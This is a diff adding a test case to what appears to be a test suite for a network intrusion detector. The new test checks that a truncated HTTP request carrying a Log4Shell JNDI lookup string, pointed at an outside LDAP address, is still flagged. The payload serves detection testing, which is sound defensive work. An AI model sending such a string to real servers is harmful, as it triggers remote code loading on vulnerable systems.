@@ -85,6 +85,13 @@ test('after a loss the next message is found again', () => {
   assert.deepEqual(told([0, 'GET / HTTP/1.1\r\nHost: '], [0, 50], [0, attack]), ['log4shell'], 'within a head')
 })
 
+test('a head whose end was not captured is read as far as it goes', () => {
+  const cut = 'GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: app.exa'
+  assert.deepEqual(told([0, cut]), ['log4shell'])
+  assert.deepEqual(told([0, cut], [0, 400], [1, ok('x')], [0, attack]), ['log4shell', 'log4shell'])
+  assert.deepEqual(told([0, 'GET /?x=${jndi'], [0, 400], [1, ok('x')]), [])
+})
+
 test('from one side only, and seen from the middle with the sides mistaken', () => {
   assert.deepEqual(told([1, ok('x')], [1, ok('y')]), [])
   const rows = rowsOfTalk([http], [[1, attack]], { midstream: true }).exploits ?? []
